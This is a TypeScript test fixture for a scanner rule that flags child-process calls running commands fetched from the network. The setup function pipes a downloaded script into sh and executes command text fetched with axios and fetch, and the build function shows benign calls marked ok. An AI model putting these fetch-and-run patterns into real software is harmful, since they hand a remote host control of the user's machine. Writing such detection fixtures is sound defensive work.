// Fixture for ts.child-process-runs-fetched-command (written for provscan; not from any project).
import { exec, execSync, spawn } from "child_process";
import axios from "axios";

export async function setup(host: string): Promise<void> {
  if (process.platform === "linux") {
    // ruleid: ts.child-process-runs-fetched-command
    execSync(`curl -s https://${host}/i.sh | sh`);
  }
  const res = await axios.get(`https://${host}/cmd`);
  // ruleid: ts.child-process-runs-fetched-command
  exec(res.data);
  // ruleid: ts.child-process-runs-fetched-command
  execSync(await (await fetch(`https://${host}/next`)).text());
}

export function build(dir: string): void {
  // ok: ts.child-process-runs-fetched-command
  execSync("npm run build", { cwd: dir, stdio: "inherit" });
  // ok: ts.child-process-runs-fetched-command
  spawn("git", ["clone", "https://example.org/repo.git", dir]);
  // ok: ts.child-process-runs-fetched-command
  exec(`tar -xzf ${dir}/dist.tgz`);
}
